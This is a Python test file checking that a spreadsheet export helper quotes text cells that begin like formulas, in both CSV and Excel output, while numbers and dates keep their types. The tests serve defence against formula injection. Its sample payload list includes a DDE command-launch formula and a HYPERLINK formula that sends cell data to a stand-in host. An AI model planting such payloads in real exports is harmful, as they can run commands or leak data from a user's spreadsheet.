"""The export helper: no text cell a spreadsheet would evaluate, in CSV or Excel, whatever the
text; numbers and dates keep their type."""

import csv
import datetime
import io
from decimal import Decimal

from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from banso.common.exports import (
    FORMULA_PREFIXES,
    cell_text,
    csv_writer,
    sheet_append,
    xlsx_cell,
)

HOSTILE = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://x.example/?"&A2,"Xem")',
    "=cmd|' /C calc'!A0",
]
# Text with the characters that matter first more often than chance would give.
texts = st.one_of(
    st.text(),
    st.builds(lambda head, tail: head + tail, st.sampled_from(list("=+-@\t\r'")), st.text()),
)


@given(texts)
@example("")
@example("=1+2")
def test_no_text_begins_like_a_formula_and_nothing_else_changes(text):
    out = cell_text(text)
    assert not out.startswith(FORMULA_PREFIXES)
    assert out in (text, "'" + text)
    assert (out != text) == text.startswith(FORMULA_PREFIXES)


@given(st.lists(texts, min_size=1, max_size=5))
def test_a_csv_row_reads_back_neutralised(row):
    stream = io.StringIO(newline="")
    csv_writer(stream).writerow(row)
    (read,) = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert read == [cell_text(text) for text in row]
    assert not any(value.startswith(FORMULA_PREFIXES) for value in read)


@given(st.lists(texts, min_size=1, max_size=5))
@example(HOSTILE)
def test_an_excel_row_holds_text_cells_only(row):
    for write_only in (False, True):
        workbook = Workbook(write_only=write_only)
        sheet = workbook.create_sheet("x")
        sheet_append(sheet, row)
        buffer = io.BytesIO()
        workbook.save(buffer)
        cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[-1].iter_rows())
        stored = cells[0] if cells else []
        expected = [cell_text(ILLEGAL_CHARACTERS_RE.sub("", text)) for text in row]
        for cell, value in zip(stored, expected, strict=False):
            if value == "":
                assert cell.value is None
                continue
            assert cell.data_type == "s"
            assert cell.value == value
            assert not cell.value.startswith(FORMULA_PREFIXES)


def test_every_hostile_cell_gets_a_quote():
    assert [cell_text(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]


def test_numbers_and_dates_keep_their_type():
    day = datetime.date(2025, 11, 20)
    moment = datetime.datetime(2025, 11, 20, 10, 30)
    values = [-45000, -1.5, Decimal("-2.50"), day, moment, True, None]
    assert [xlsx_cell(value) for value in values] == values
    workbook = Workbook()
    sheet_append(workbook.active, values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [cell.data_type for cell in row[:6]] == ["n", "n", "n", "d", "d", "b"]
    assert row[0].value == -45000 and row[3].value.date() == day
    stream = io.StringIO()
    csv_writer(stream).writerow([-45000, Decimal("-2.50"), day, "-45000"])
    assert stream.getvalue() == "-45000,-2.50,2025-11-20,'-45000\r\n"


def test_characters_excel_cannot_hold_are_dropped_before_the_check():
    assert xlsx_cell("\x01=1+2") == "'=1+2"
